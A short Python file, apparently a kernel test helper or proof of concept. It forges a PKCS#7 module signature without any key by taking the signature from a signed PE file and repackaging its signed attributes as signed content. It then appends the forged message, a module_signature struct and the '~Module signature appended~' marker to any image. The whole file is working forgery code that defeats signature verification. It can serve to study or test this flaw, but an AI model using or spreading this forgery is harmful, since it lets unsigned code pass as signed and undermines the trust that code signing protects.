# SPDX-License-Identifier: GPL-2.0
"""An appended signature that was made without a key.

The signature of a PE file is over the DER of its signed attributes.  With that DER
as content, and without attributes, the same signature is good, and says nothing of
the file to which it is appended.
"""

import struct

CERT_DIRENT = 4
SEQUENCE, SET, OCTETS, TAG0 = 0x30, 0x31, 0x04, 0xa0
OID_SIGNED = bytes.fromhex("06092a864886f70d010702")
OID_DATA = bytes.fromhex("06092a864886f70d010701")
VERSION_1 = b"\x02\x01\x01"
# struct module_signature: type 2 is PKCS#7
MODULE_SIGNATURE = struct.Struct(">BBBBB3xI")
PKCS7 = 2
MARKER = b"~Module signature appended~\n"


def pkcs7_of(image):
    """What is in the first entry of the certificate table of a PE32+ file"""
    header, = struct.unpack_from("<I", image, 0x3c)
    at, _ = struct.unpack_from("<II", image, header + 24 + 112
                               + 8 * CERT_DIRENT)
    size, = struct.unpack_from("<I", image, at)
    return image[at + 8:at + size]


def element(tag, *parts):
    body = b"".join(parts)
    size = len(body)
    if size < 0x80:
        return bytes([tag, size]) + body
    digits = size.to_bytes((size.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(digits)]) + digits + body


def content(data):
    """(where it begins, where it ends) of the first element of @data"""
    size, at = data[1], 2
    if size & 0x80:
        at += size & 0x7f
        size = int.from_bytes(data[2:at], "big")
    return at, at + size


def parts(data):
    """The elements in an element"""
    at, end = content(data)
    found = []
    while at < end:
        size = content(data[at:])[1]
        found.append(data[at:at + size])
        at += size
    return found


def one(elements, tag):
    found, = (e for e in elements if e[0] == tag)
    return found


def forged(signed):
    """A PKCS#7 message with content, out of the signature of a PE file"""
    data = parts(parts(parts(pkcs7_of(signed))[1])[0])
    signer = parts(parts(data[-1])[0])
    attributes = one(signer, TAG0)
    version, name, digest = signer[:3]
    algorithm, signature = signer[4:6]
    return element(
        SEQUENCE, OID_SIGNED, element(TAG0, element(
            SEQUENCE, VERSION_1, element(SET, digest),
            element(SEQUENCE, OID_DATA, element(TAG0, element(
                OCTETS, bytes([SET]) + attributes[1:]))),
            one(data, TAG0),
            element(SET, element(SEQUENCE, version, name, digest, algorithm,
                                 signature)))))


def append(image, signed):
    message = forged(signed)
    return (image + message + MODULE_SIGNATURE.pack(0, 0, PKCS7, 0, 0,
                                                    len(message)) + MARKER)
